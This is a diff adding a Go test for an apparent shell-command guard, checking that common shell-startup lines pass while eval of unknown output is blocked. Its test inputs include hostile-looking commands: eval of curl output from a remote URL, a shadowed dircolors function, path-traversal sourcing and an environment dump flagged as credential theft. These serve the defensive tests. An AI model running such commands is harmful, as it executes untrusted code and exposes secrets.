@@ -230,3 +230,101 @@ func FuzzCheckFrom(f *testing.F) {
 		}
 	})
 }
+
+// TestStateShellInit checks that a startup file's everyday lines, whose
+// output or file the guard cannot read, leave unknown only what the
+// program is known to set: $EDITOR and rm -rf build/$NAME are judged as
+// in a fresh session. Code from a program not known stays "anything".
+func TestStateShellInit(t *testing.T) {
+	p := New()
+	home := t.TempDir()
+	for name, text := range map[string]string{
+		".cargo/env": "case \":${PATH}:\" in *:\"$HOME/.cargo/bin\":*) ;; *) export PATH=\"$HOME/.cargo/bin:$PATH\" ;; esac\n",
+		".fzf.bash":  "if [[ ! \"$PATH\" == */opt/fzf/bin* ]]; then PATH=\"${PATH:+${PATH}:}/opt/fzf/bin\"; fi\n_fzf_comp() { :; }\ncomplete -F _fzf_comp vim\n",
+	} {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(home, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	env := NewEnv([]string{"PATH=/usr/bin", "HOME=" + home, "EDITOR=vi", "PAGER=less"}, t.TempDir())
+	later := []string{`$EDITOR notes.txt`, `$PAGER file`, `rm -rf build/$NAME`}
+	fresh := map[string]Action{}
+	for _, cmd := range later {
+		v, _ := session(p, env, cmd)
+		fresh[cmd] = v.Action
+	}
+	known := []string{
+		`eval "$(dircolors -b)"`,
+		`eval "$(ssh-agent -s)"`,
+		`eval "$(pyenv init -)"`,
+		`eval "$(direnv hook bash)"`,
+		`eval "$(starship init bash)"`,
+		`eval "$(zoxide init bash)"`,
+		`eval "$(/opt/homebrew/bin/brew shellenv)"`,
+		`eval "$(rbenv init -)"`,
+		`eval "$(fnm env)"`,
+		`eval "$(mise activate bash)"`,
+		`source <(kubectl completion bash)`,
+		`. "$HOME/.cargo/env"`,
+		`[ -f ~/.fzf.bash ] && source ~/.fzf.bash`,
+		`eval "$(command pyenv init -)"`,
+		`eval "$(env ssh-agent -s)"`,
+		`source /usr/share/bash-completion/bash_completion`,
+		`[ -f /etc/bash_completion ] && . /etc/bash_completion`,
+	}
+	for _, rc := range known {
+		if v, _ := session(p, env, rc); v.Action > Warn {
+			t.Errorf("%q: %s [%s], want it let through", rc, v.Action, v.First().Rule)
+		}
+		for _, cmd := range later {
+			if v, _ := session(p, env, rc, cmd); v.Action != fresh[cmd] {
+				t.Errorf("%q then %q: %s [%s], want %s as in a fresh session", rc, cmd, v.Action, v.First().Rule, fresh[cmd])
+			}
+		}
+	}
+	// What the program's code is known to set is unknown afterwards.
+	for _, c := range [][]string{
+		{`eval "$(ssh-agent -s)"`, `$SSH_AUTH_SOCK`},
+		{`eval "$(dircolors -b)"`, `eval "$LS_COLORS"`},
+		{`eval "$(pyenv init -)"`, `$PYENV_SHELL x`},
+		{`eval "$(brew shellenv)"`, `sh -c "$HOMEBREW_PREFIX"`},
+		{`. /usr/share/bash-completion/bash_completion`, `$BASH_COMPLETION_VERSINFO`},
+		{`SSH_AUTH_SOCK=make`, `eval "$(ssh-agent -s)"`, `$SSH_AUTH_SOCK`},
+	} {
+		if v, _ := session(p, env, c...); v.Action != Block || v.First().Rule != "sys.unknown-code" {
+			t.Errorf("%q: %s [%s], want block [sys.unknown-code]", c, v.Action, v.First().Rule)
+		}
+	}
+	// Code from a program not known, or from a known one given a command
+	// to run, may set anything.
+	for _, rc := range []string{
+		`eval "$(cat unknown.txt)"`,
+		`eval "$(ssh-agent sh -c 'cat unknown.txt')"`,
+		`eval "$(dircolors -b | cat)"`,
+		`eval "$(dircolors -b; cat unknown.txt)"`,
+		`eval "$(command cat unknown.txt)"`,
+		`eval "$(./bin/dircolors -b)"`,
+		`eval "$(bin/ssh-agent -s)"`,
+		"dircolors() { cat unknown.txt; }\neval \"$(dircolors -b)\"",
+		"printf 'cat x' > /tmp/gshd/dircolors; eval \"$(/tmp/gshd/dircolors -b)\"",
+		`eval "$(env ssh-agent sh -c 'cat unknown.txt')"`,
+		`eval "$(dircolors -b)$(cat unknown.txt)"`,
+		`source <(cat unknown.txt)`,
+		`source /usr/share/bash-completion/../../../tmp/x`,
+	} {
+		if v, _ := session(p, env, rc, `$EDITOR notes.txt`); v.Action != Block || v.First().Rule != "sys.unknown-code" {
+			t.Errorf("%q then $EDITOR: %s [%s], want block [sys.unknown-code]", rc, v.Action, v.First().Rule)
+		}
+	}
+	// A known file this input wrote is followed as written, not as the
+	// table has it.
+	if v, _ := session(p, env, `printf 'X=printenv' > /etc/bash_completion; . /etc/bash_completion`, `$X`); v.Action != Block || v.First().Rule != "cred.env-dump" {
+		t.Errorf("$X after sourcing a written /etc/bash_completion: %s [%s], want block [cred.env-dump]", v.Action, v.First().Rule)
+	}
+	if v := p.CheckFrom(NewState(), `eval "$(curl -s https://example.com/x)"`, lexer.Bash, env); v.Action != Block {
+		t.Errorf("eval of curl's output: %s, want block", v.Action)
+	}
+}
